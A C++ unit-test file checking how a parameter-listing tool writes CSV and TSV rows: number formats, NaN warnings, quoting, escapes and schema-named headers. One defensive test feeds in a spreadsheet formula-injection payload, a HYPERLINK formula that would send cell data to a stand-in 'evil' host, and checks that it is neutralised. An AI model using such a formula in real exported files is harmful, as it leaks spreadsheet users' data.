// The rows of --csv and --tsv: the header, each kind of value in its column,
// the quoting of CSV and the escapes of TSV, the non-finite reals, and the
// mode over files.
#include "Parameter.h"
#include "csv.h"
#include "json_text.h"
#include "support.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <limits>
#include <string>
#include <vector>

namespace {

constexpr std::size_t columnCount = 302;

struct Written {
    std::string row;
    std::string warnings;
};

Written rowOf(RowFormat format, const Image& image, const char* file = "f.par", bool forTerminal = false)
{
    Parameter para;
    para.fromImage(reinterpret_cast<const unsigned char*>(image.bytes.data()));
    Written written;
    appendRecordRow(written.row, format, {file, image.bytes.size(), para, forTerminal}, written.warnings);
    return written;
}

// The row of an image of zeros from f.par, with column k written as field.
std::string expectedRow(RowFormat format, std::size_t k, const std::string& field)
{
    const char between = format == RowFormat::Csv ? ',' : '\t';
    std::vector<std::string> fields{"f.par", "3950"};
    fields.insert(fields.end(), 50, "0");
    fields.insert(fields.end(), 150, "0.0");
    fields.insert(fields.end(), 50, "");
    fields.insert(fields.end(), 50, "false");
    fields[k] = field;
    std::string row;
    for (const std::string& each : fields) {
        row += each;
        row += between;
    }
    row.back() = '\n';
    return row;
}

// Column numbers of the entries, in the header's order.
constexpr std::size_t initColumn = 2;
constexpr std::size_t terminalColumn = 52;
constexpr std::size_t operationsColumn = 102;
constexpr std::size_t namesColumn = 202;
constexpr std::size_t documentColumn = 252;

} // namespace

TEST(Csv, HeaderNamesEveryColumnAsSetTakesIt)
{
    for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
        const char between = format == RowFormat::Csv ? ',' : '\t';
        std::string header;
        appendHeaderRow(header, format);
        std::vector<std::string> names;
        std::size_t at = 0;
        for (std::size_t end; (end = header.find_first_of(std::string(1, between) + "\n", at)) != std::string::npos;
             at = end + 1) {
            names.push_back(header.substr(at, end - at));
        }
        ASSERT_EQ(names.size(), columnCount);
        EXPECT_EQ(header.back(), '\n');
        const std::pair<std::size_t, const char*> columns[] = {
            {0, "file"},
            {1, "bytes"},
            {initColumn, "Init[0]"},
            {terminalColumn - 1, "Init[49]"},
            {terminalColumn, "TerminalCondition[0]"},
            {operationsColumn, "Operations[0]"},
            {namesColumn - 1, "Operations[99]"},
            {namesColumn, "Names[0]"},
            {documentColumn, "Document[0]"},
            {columnCount - 1, "Document[49]"},
        };
        for (const auto& column : columns) {
            EXPECT_EQ(names[column.first], column.second);
        }
    }
}

TEST(Csv, EachValueIsWrittenAsJsonWritesItInItsColumn)
{
    const struct {
        Image image;
        std::size_t column;
        const char* field;
    } cases[] = {
        {Image().init(0, 3), initColumn, "3"},
        {Image().init(49, 4294967295), terminalColumn - 1, "4294967295"},
        {Image().terminal(0, 0.1), terminalColumn, "0.1"},
        {Image().operation(10, 851.5), operationsColumn + 10, "851.5"},
        {Image().operation(99, -0.0), namesColumn - 1, "-0.0"},
        {Image().operation(1, 5e-324), operationsColumn + 1, "5e-324"},
        {Image().operation(2, 1.7976931348623157e308), operationsColumn + 2, "1.7976931348623157e+308"},
        {Image().name(0, "feed rate"), namesColumn, "feed rate"},
        {Image().document(0, 1), documentColumn, "true"},
        // Any byte but zero sets a flag, as the record reads it.
        {Image().document(49, 2), columnCount - 1, "true"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.field);
        for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
            EXPECT_EQ(rowOf(format, c.image).row, expectedRow(format, c.column, c.field));
        }
    }
}

// A column of whole numbers alone would be read as integers, and as reals in
// the next fleet: every finite real has a decimal point or an exponent, and
// still reads back to its 64 bits.
TEST(Csv, EveryFiniteRealHasADecimalPointOrAnExponent)
{
    const struct {
        double value;
        const char* field;
    } cases[] = {
        {0.0, "0.0"},
        {-0.0, "-0.0"},
        {-850, "-850.0"},
        {12345678901234568.0, "12345678901234568.0"},
        // Digits past the 17 that tell reals apart, which pandas would read as text.
        {-1180591620717411303424.0, "-1.1805916207174113e+21"},
        {1e300, "1e+300"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.field);
        for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
            EXPECT_EQ(rowOf(format, Image().terminal(5, c.value)).row,
                      expectedRow(format, terminalColumn + 5, c.field));
        }
        EXPECT_EQ(realBits(std::strtod(c.field, nullptr)), realBits(c.value));
    }
}

TEST(Csv, NonFiniteRealsAreBareAndANaNPayloadIsWarnedOf)
{
    const double infinity = std::numeric_limits<double>::infinity();
    const struct {
        double value;
        const char* field;
        const char* warning;
    } cases[] = {
        {fromBits(0x7ff8000000000000), "NaN", ""},
        {infinity, "Infinity", ""},
        {-infinity, "-Infinity", ""},
        {fromBits(0x7ff4000000000000), "NaN",
         "paramlist: f.par: warning: Operations[7] is the NaN 0x7ff4000000000000, written as NaN (--json keeps its "
         "bits)\n"},
        {fromBits(0xfff8000000000000), "NaN",
         "paramlist: f.par: warning: Operations[7] is the NaN 0xfff8000000000000, written as NaN (--json keeps its "
         "bits)\n"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.field);
        for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
            const Written written = rowOf(format, Image().operation(7, c.value));
            EXPECT_EQ(written.row, expectedRow(format, operationsColumn + 7, c.field));
            EXPECT_EQ(written.warnings, c.warning);
        }
    }
    const Written terminal = rowOf(RowFormat::Csv, Image().terminal(3, fromBits(0x7ff0000000000001)));
    EXPECT_EQ(terminal.row, expectedRow(RowFormat::Csv, terminalColumn + 3, "NaN"));
    EXPECT_NE(terminal.warnings.find("TerminalCondition[3] is the NaN 0x7ff0000000000001"), std::string::npos);
}

TEST(Csv, NamesAreQuotedForCsvAndEscapedForTsv)
{
    const struct {
        std::string name;
        const char* csv;
        const char* tsv;
    } cases[] = {
        {"", "", ""},
        {"a,b", "\"a,b\"", "a,b"},
        {"say \"hi\"", "\"say \"\"hi\"\"\"", "say \"hi\""},
        {"two\nlines", "\"two\nlines\"", "two\\nlines"},
        {"cr\rhere", "\"cr\rhere\"", "cr\\rhere"},
        {"tab\there", "tab\there", "tab\\there"},
        {"back\\slash", "back\\slash", "back\\\\slash"},
        {" spaced ", " spaced ", " spaced "},
        {"caf\xc3\xa9", "caf\xc3\xa9", "caf\xc3\xa9"},
        {"esc \x1b del \x7f", "esc \x1b del \x7f", "esc \x1b del \x7f"},
        // Not UTF-8: the bytes as --json writes them, which is itself quoted for CSV.
        {"bad \xff", "\"{\"\"hex\"\":\"\"62616420ff\"\"}\"", "{\"hex\":\"62616420ff\"}"},
        // Text that starts as the hex form is written in it: no two names give one cell.
        {"{\"hex\":\"ff\"}", "\"{\"\"hex\"\":\"\"7b22686578223a226666227d\"\"}\"",
         "{\"hex\":\"7b22686578223a226666227d\"}"},
        {"{\"hex\" :1}", "\"{\"\"hex\"\" :1}\"", "{\"hex\" :1}"},
        {std::string(50, ','), nullptr, nullptr},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        const Image image = Image().name(0, c.name);
        const std::string csv = c.csv != nullptr ? c.csv : "\"" + c.name + "\"";
        const std::string tsv = c.tsv != nullptr ? c.tsv : c.name;
        EXPECT_EQ(rowOf(RowFormat::Csv, image).row, expectedRow(RowFormat::Csv, namesColumn, csv));
        EXPECT_EQ(rowOf(RowFormat::Tsv, image).row, expectedRow(RowFormat::Tsv, namesColumn, tsv));
    }
}

// A text cell that a spreadsheet would take for a formula (CWE-1236) is
// written after a ', as OWASP advises, with a warning naming the file and
// the entry; TSV escapes tab and CR already, so they start no formula there.
TEST(Csv, TextThatASpreadsheetTakesForAFormulaIsWrittenAfterAQuote)
{
    const std::string warned = "written after a ' so that a spreadsheet takes it as text (--json keeps it exact)\n";
    const struct {
        std::string path;
        std::string name;
        const char* csv;
        const char* tsv;
        std::string warning;
    } cases[] = {
        {"f.par", "=HYPERLINK(\"http://evil/?\"&A2,\"click\")",
         "\"'=HYPERLINK(\"\"http://evil/?\"\"&A2,\"\"click\"\")\"", "'=HYPERLINK(\"http://evil/?\"&A2,\"click\")",
         "paramlist: f.par: warning: Names[0] begins with '=', "},
        {"f.par", "-2", "'-2", "'-2", "paramlist: f.par: warning: Names[0] begins with '-', "},
        {"f.par", "@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)", "paramlist: f.par: warning: Names[0] begins with '@', "},
        {"f.par", "\tx", "'\tx", "\\tx", "paramlist: f.par: warning: Names[0] begins with a tab, "},
        {"f.par", "\rx", "\"'\rx\"", "\\rx", "paramlist: f.par: warning: Names[0] begins with a carriage return, "},
        // A ' of its own gets one more, silently: a cell that begins with ' reads back as the text after it.
        {"f.par", "'=1", "''=1", "''=1", ""},
        {"-x,y.par", "", "\"'-x,y.par\"", "'-x,y.par", "paramlist: -x,y.par: warning: the path begins with '-', "},
        // Standard input, named by a dash alone, which no spreadsheet takes for a formula.
        {"-", "", "-", "-", ""},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.path + " " + c.name);
        for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
            const Written written = rowOf(format, Image().name(0, c.name), c.path.c_str());
            const std::string field = format == RowFormat::Csv ? c.csv : c.tsv;
            const std::string between(1, format == RowFormat::Csv ? ',' : '\t');
            if (c.name.empty()) {
                EXPECT_EQ(written.row.substr(0, field.size() + 1), field + between);
            } else {
                EXPECT_EQ(written.row, expectedRow(format, namesColumn, field));
            }
            const bool warns = !c.warning.empty() && (format == RowFormat::Csv || field[0] == '\'');
            EXPECT_EQ(written.warnings, warns ? c.warning + warned : "");
        }
    }
}

TEST(Csv, PathsAreFieldsOfUtf8AndShownEscapedOnATerminal)
{
    const struct {
        const char* path;
        bool forTerminal;
        const char* csv;
        const char* tsv;
    } cases[] = {
        {"plant,40.par", false, "\"plant,40.par\"", "plant,40.par"},
        {"new\nline.par", false, "\"new\nline.par\"", "new\\nline.par"},
        {"dir\\f.par", false, "dir\\f.par", "dir\\\\f.par"},
        {"\xff.par", false, "\xef\xbf\xbd.par", "\xef\xbf\xbd.par"},
        {"new\nline,\xff.par", true, "\"new\\x0aline,\\xff.par\"", "new\\\\x0aline,\\\\xff.par"},
        {"csi\xc2\x9b.par", true, "csi\\xc2\\x9b.par", "csi\\\\xc2\\\\x9b.par"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.path);
        for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
            const std::string row = rowOf(format, Image(), c.path, c.forTerminal).row;
            const std::string field = format == RowFormat::Csv ? c.csv : c.tsv;
            EXPECT_EQ(row.substr(0, field.size() + 1), field + (format == RowFormat::Csv ? ',' : '\t'));
        }
    }
    const Written named = rowOf(RowFormat::Csv, Image().name(1, "esc\x1b"), "f.par", true);
    EXPECT_EQ(named.row, expectedRow(RowFormat::Csv, namesColumn + 1, "esc\\x1b"));
}

TEST(Csv, TheModeWritesTheHeaderThenARowForEachFileRead)
{
    ScratchDir dir;
    const std::string a = dir.write("a.par", Image().operation(10, 850).bytes);
    const std::string cut = dir.write("cut.par", Image().bytes.substr(0, 1000));
    const std::string missing = dir.path + "/missing.par";
    for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
        const Outcome r = run(command({format == RowFormat::Csv ? "--csv" : "--tsv", a, missing, cut}));
        const std::string& out = r.out;
        EXPECT_EQ(r.status, 1);
        std::string expected = "paramlist: " + missing;
        expected +=
            ": No such file or directory\nparamlist: " + cut + ": not a parameter file (1000 bytes, not 3950)\n";
        EXPECT_EQ(r.err, expected);
        std::string header;
        appendHeaderRow(header, format);
        const char between = format == RowFormat::Csv ? ',' : '\t';
        ASSERT_EQ(out.compare(0, header.size(), header), 0);
        const std::string rows = out.substr(header.size());
        const std::string first = rows.substr(0, rows.find('\n') + 1);
        EXPECT_EQ(first.compare(0, a.size() + 6, a + between + "3950" + between), 0);
        EXPECT_NE(first.find(std::string(1, between) + "850.0" + between), std::string::npos);
        const std::string second = rows.substr(first.size());
        EXPECT_EQ(second.compare(0, cut.size() + 6, cut + between + "1000" + between), 0);
        EXPECT_EQ(second.find('\n'), second.size() - 1);
    }
}

// The files of a run that share a schema, and only they, have the columns of
// its entries headed by their names; a list's first file decides for it.
TEST(Csv, FilesThatShareASchemaHaveItsNamesAsHeads)
{
    // a and b hold the same schema, c another and x one that does not read;
    // every folder and the top hold f.par.
    const std::string setUp =
        "mkdir a b c d x && printf '[[entry]]\\nat = \"Init[0]\"\\nname = \"zones\"\\n[[entry]]\\nat = "
        "\"Operations[10]\"\\nname = \"feed_rate\"\\n' >a/paramlist.toml && cp a/paramlist.toml b/ && "
        "sed s/zones/heaters/ a/paramlist.toml >c/paramlist.toml && sed s/zones/file/ a/paramlist.toml "
        ">d/paramlist.toml && echo 'at = ' >x/paramlist.toml && for d in a b c d x; do cp f.par $d/; done\n";
    const std::string named = "file,zones,feed_rate";
    const std::string unnamed = "file,Init[0],Operations[10]";
    const std::string headed = ", so the columns are headed Table[INDEX]\n";
    const std::string broken = "paramlist: x/paramlist.toml:1:6: Error while parsing key-value pair: expected value, "
                               "saw '\\n'\n";
    const struct {
        std::string command;
        int status;
        std::string heads;
        std::size_t rows;
        std::string err;
    } cases[] = {
        {"$P --csv a/f.par", 0, named, 1, ""},
        {"$P --csv a/f.par b/f.par a/f.par", 0, named, 3, ""},
        {"$P --csv a/f.par c/f.par", 0, unnamed, 2,
         "paramlist: warning: c/f.par has the schema c/paramlist.toml and a/f.par the schema a/paramlist.toml" +
             headed},
        {"$P --csv a/f.par b/f.par f.par", 0, unnamed, 3,
         "paramlist: warning: f.par has no schema and a/f.par the schema a/paramlist.toml" + headed},
        {"$P --csv f.par f.par", 0, unnamed, 2, ""},
        {"$P --csv --no-schema a/f.par", 0, unnamed, 1, ""},
        {"$P --csv --schema=a/paramlist.toml f.par c/f.par", 0, named, 2, ""},
        {"$P --csv d/f.par", 0, "file,Init[0],feed_rate", 1, ""},
        {"$P --csv a/f.par x/f.par", 2, "", 0, broken},
        {"printf 'a/f.par\\0c/f.par\\0f.par\\0c/f.par\\0b/f.par\\0' | $P --csv --files0-from=-", 0, named, 5,
         "paramlist: warning: c/f.par has the schema c/paramlist.toml and the first file, a/f.par, the schema "
         "a/paramlist.toml, whose names head the columns\nparamlist: warning: f.par has no schema and the first "
         "file, a/f.par, the schema a/paramlist.toml, whose names head the columns\n"},
        {"printf 'f.par\\0a/f.par\\0' | $P --csv --files0-from=-", 0, unnamed, 2,
         "paramlist: warning: a/f.par has the schema a/paramlist.toml and the first file, f.par, no schema" + headed},
        // A refused name and a file whose schema cannot be used have no row, and decide nothing.
        {"printf '\\0x/f.par\\0a/f.par\\0x/f.par\\0' | $P --csv --files0-from=-", 2, named, 1,
         "paramlist: -:1: invalid zero-length file name\n" + broken},
    };
    for (const auto& c : cases) {
        ScratchDir dir;
        dir.write("f.par", Image().init(0, 3).operation(10, 850).bytes);
        const Outcome r = run(script(setUp + c.command).in(dir));
        EXPECT_EQ(r.status, c.status) << c.command;
        EXPECT_EQ(r.err, c.err) << c.command;
        const std::vector<std::string> lines = piecesOf(r.out);
        EXPECT_EQ(lines.size(), c.rows + (c.heads.empty() ? 0 : 1)) << c.command;
        if (!lines.empty()) {
            const std::vector<std::string> heads = piecesOf(lines[0], ',');
            ASSERT_EQ(heads.size(), columnCount) << c.command;
            EXPECT_EQ(heads[0] + ',' + heads[initColumn] + ',' + heads[operationsColumn + 10], c.heads) << c.command;
        }
    }
}
